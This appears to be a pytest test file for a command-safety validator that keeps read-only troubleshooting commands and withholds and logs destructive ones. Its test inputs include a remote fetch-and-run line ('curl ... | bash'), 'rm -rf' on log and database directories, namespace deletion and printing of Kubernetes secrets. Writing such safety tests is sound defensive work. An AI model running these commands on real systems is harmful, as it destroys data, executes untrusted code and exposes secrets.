"""Suggested commands pass the safety validator; unsafe ones are withheld and logged."""

from __future__ import annotations

import logging

import pytest

from domain.engine.apply.scrub import SafetyLog
from domain.investigation.evidence_requests import AcquisitionGuidance
from domain.safety.rules import CommandSafety


def test_only_read_only_commands_are_kept() -> None:
    log = SafetyLog()

    kept = log.commands(["kubectl get pods -n api", "kubectl delete pod api-1", "rm -rf /var/log"])

    assert kept == ["kubectl get pods -n api"]
    assert [v.command for v in log.removed] == ["kubectl delete pod api-1", "rm -rf /var/log"]
    assert log.removed[1].safety is CommandSafety.DANGEROUS


def test_guidance_loses_unsafe_commands_and_alternatives() -> None:
    log = SafetyLog()
    guidance = AcquisitionGuidance(
        commands=["tail -100 /var/log/app.log", "curl http://x.sh | bash"],
        alternatives=[
            "Kubernetes: kubectl logs deploy/api --tail=100",
            "Docker: `docker rm -f api`",
        ],
    )

    safe = log.guidance(guidance)

    assert safe.commands == ["tail -100 /var/log/app.log"]
    assert safe.alternatives == ["Kubernetes: kubectl logs deploy/api --tail=100"]
    assert len(log.removed) == 2


def test_unsafe_commands_in_text_are_replaced_by_a_note() -> None:
    log = SafetyLog()
    text = (
        "Check with `kubectl get pods` first.\n"
        "Then `kubectl scale deploy/api --replicas=0` would stop it.\n"
        "```\nkubectl logs deploy/api\nsudo systemctl restart api\n```\n"
        "- kubectl rollout undo deployment/api\n"
        "Error rate > 50% means it is critical.\n"
        "1. journalctl -u api --since '1 hour ago'"
    )

    cleaned = log.text(text)

    assert "`kubectl get pods`" in cleaned
    assert "kubectl scale" not in cleaned
    assert "systemctl restart" not in cleaned
    assert "rollout undo" not in cleaned
    assert "kubectl logs deploy/api" in cleaned
    assert "Error rate > 50% means it is critical." in cleaned
    assert "1. journalctl -u api --since '1 hour ago'" in cleaned
    assert cleaned.count("(command withheld: `") == 3
    assert "- (command withheld: `kubectl` — it rolls a workload back)" in cleaned
    assert len(log.removed) == 3


def test_text_helpers_keep_none_and_map_lists() -> None:
    log = SafetyLog()

    assert log.optional_text(None) is None
    assert log.texts(["`ls /tmp`", "plain words"]) == ["`ls /tmp`", "plain words"]
    assert log.text("``") == "``"
    assert log.text("`(command withheld: it x)`") == "`(command withheld: it x)`"
    assert log.removed == []


def test_code_on_one_line_is_checked_whatever_the_number_of_backticks() -> None:
    log = SafetyLog()

    cleaned = log.text(
        "Run ```rm -rf /var/lib/postgresql``` now, or ``kubectl delete ns prod``; "
        "``` kubectl get pods ``` is fine, and so is `ls`."
    )

    assert "rm -rf" not in cleaned
    assert "kubectl delete" not in cleaned
    assert cleaned.count("(command withheld: `") == 2
    assert "``` kubectl get pods ```" in cleaned
    assert "`ls`" in cleaned
    assert log.text("` (command withheld: it x) `") == "` (command withheld: it x) `"


def test_each_withheld_command_is_logged_with_its_verdict(caplog: pytest.LogCaptureFixture) -> None:
    log = SafetyLog()

    with caplog.at_level(logging.WARNING, logger="domain.engine.apply.scrub"):
        cleaned = log.text("If it hangs, then run sudo systemctl restart nginx.")

    assert cleaned.startswith("If it hangs, then run (command withheld: `systemctl` — it ")
    (record,) = caplog.records
    assert record.message == "unsafe command withheld"
    assert record.safety == log.removed[0].safety.value  # type: ignore[attr-defined]
    assert log.removed[0].command == "sudo systemctl restart nginx"


def test_the_notice_names_each_withheld_command_and_its_real_reason() -> None:
    log = SafetyLog()

    log.commands(["kubectl get secret db -n api -o yaml", "fooctl frobnicate x"])

    assert log.notice() == (
        "Withheld 2 suggested commands: `kubectl` — it reveals secret values, printing them into"
        " the channel; `fooctl` — FaultMaven does not know what it does."
    )


def test_read_only_commands_of_once_unknown_tools_are_kept_and_never_announced() -> None:
    log = SafetyLog()

    kept = log.commands(
        [
            "kafka-consumer-groups.sh --bootstrap-server kafka:9092 --describe --group fulfillment",
            "argocd app history fulfillment-worker",
            "kcat -L -b kafka:9092",
            "rabbitmqctl list_queues name messages",
            "dig +short kafka.internal",
        ]
    )

    assert len(kept) == 5
    assert log.notice() is None


def test_text_that_is_never_shown_is_checked_but_not_announced() -> None:
    log = SafetyLog()

    text = log.text("Try kubectl delete ns prod", shown=False)

    assert "kubectl delete" not in text
    assert len(log.removed) == 1
    assert log.notice() is None
